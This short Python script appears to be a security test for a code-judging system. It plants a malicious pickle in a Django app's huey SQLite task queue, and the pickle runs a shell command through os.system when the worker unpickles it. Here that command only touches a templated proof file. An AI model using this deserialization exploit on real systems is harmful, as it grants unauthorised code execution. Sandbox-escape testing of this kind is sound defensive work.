# Tries to have the judge run code, by a task in the queue that is a malicious pickle.
import os, pickle, sqlite3, pathlib, django.conf
class Evil:
    def __reduce__(self):
        return os.system, ("touch @PROOF@",)
def attack():
    state = pathlib.Path(django.conf.settings.DATABASES["default"]["NAME"]).parent
    queue = sqlite3.connect(state / "huey.sqlite3")
    queue.execute("CREATE TABLE IF NOT EXISTS task (id INTEGER PRIMARY KEY, queue, data, priority)")
    queue.execute("CREATE TABLE IF NOT EXISTS schedule (id INTEGER PRIMARY KEY, queue, data, timestamp)")
    queue.execute("INSERT INTO task (queue, data, priority) VALUES ('huey', ?, 0)", [pickle.dumps(Evil())])
    queue.commit()
